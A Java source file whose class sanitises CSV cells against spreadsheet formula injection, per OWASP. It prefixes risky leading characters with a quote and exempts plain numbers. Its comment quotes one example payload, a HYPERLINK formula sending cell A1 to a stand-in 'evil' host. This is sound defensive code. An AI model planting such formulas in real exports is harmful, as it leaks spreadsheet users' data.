package org.figx.output;

import java.util.List;
import java.util.Set;

/**
 * Keeps a spreadsheet from reading a CSV cell of the excel dialects as a formula: the
 * "CSV Injection" of OWASP (https://owasp.org/www-community/attacks/CSV_Injection). The
 * articles figx reads come from anywhere, a saved web page among them, and a sentence
 * such as {@code =HYPERLINK("http://evil/?"&A1)} would otherwise be run by the program
 * that opens the file. OWASP's guidance: no cell should begin with {@code =}, {@code +},
 * {@code -}, {@code @}, a tab, a carriage return or a line feed, nor with the full-width
 * forms {@code ＝ ＋ － ＠} (read as formulas in some locales, Japanese among them); such a
 * cell is prefixed with a single quote, which spreadsheets take as "this is text", and
 * wrapped in double quotes.
 *
 * <p>Two kinds of cell are left as they are, because no spreadsheet reads a formula in them:
 * <ul>
 * <li>a <em>plain number</em>: an optional sign, ASCII digits, and optionally the dialect's
 *     decimal mark and more digits ({@code -12}, {@code +7}; {@code -0.6} in excel,
 *     {@code +3,5} in excel-fr). Nothing else: no exponent ({@code -1.5e3}), no group
 *     separator ({@code -12 300}), no percent sign or unit ({@code -5 %}), no mark of the
 *     other dialect ({@code -0.6} in excel-fr); telling which of those a spreadsheet reads
 *     as a number, in which locale, would mean writing its parser again, and a cell that
 *     is text anyway loses nothing by showing its quote (the figure is in {@code value});</li>
 * <li>a sign alone ({@code -}, {@code +}): an operator with nothing to apply to, and
 *     {@code -} is how figx names standard input in {@code source}.</li>
 * </ul>
 * Only text columns are guarded: the positions and {@code value}/{@code value_max} are
 * figx's own numbers and TIMEX3 values, never the input's text, and a negative value
 * must stay a number.
 */
final class FormulaGuard {
    /** The character that makes a spreadsheet read the rest of a cell as text. */
    static final char TEXT_MARK = '\'';

    /** Columns whose cells figx writes itself (numbers, TIMEX3 values): never guarded. */
    private static final Set<String> FIGX_NUMBERS = Set.of("line", "column", "start", "end", "value", "value_max");

    private FormulaGuard() {
    }

    /** For each of these columns, whether its cells are text to guard. */
    static boolean[] guardedColumns(List<String> names) {
        boolean[] guarded = new boolean[names.size()];
        for (int i = 0; i < guarded.length; i++) {
            guarded[i] = !FIGX_NUMBERS.contains(names.get(i));
        }
        return guarded;
    }

    /** Whether a spreadsheet could read {@code cell} as a formula: see the class comment. */
    static boolean startsFormula(String cell, char decimalMark) {
        if (cell.isEmpty()) {
            return false;
        }
        char first = cell.charAt(0);
        return switch (first) {
            case '=', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20' -> true;
            case '+', '-' -> cell.length() > 1 && !isPlainNumber(cell, decimalMark);
            default -> false;
        };
    }

    /** An optional sign, digits, and optionally {@code decimalMark} and digits. */
    static boolean isPlainNumber(String cell, char decimalMark) {
        int i = cell.charAt(0) == '+' || cell.charAt(0) == '-' ? 1 : 0;
        int integerStart = i;
        while (i < cell.length() && isDigit(cell.charAt(i))) {
            i++;
        }
        if (i == integerStart) {
            return false;
        }
        if (i == cell.length()) {
            return true;
        }
        if (cell.charAt(i) != decimalMark) {
            return false;
        }
        int fractionStart = ++i;
        while (i < cell.length() && isDigit(cell.charAt(i))) {
            i++;
        }
        return i > fractionStart && i == cell.length();
    }

    private static boolean isDigit(char c) {
        return c >= '0' && c <= '9';
    }
}
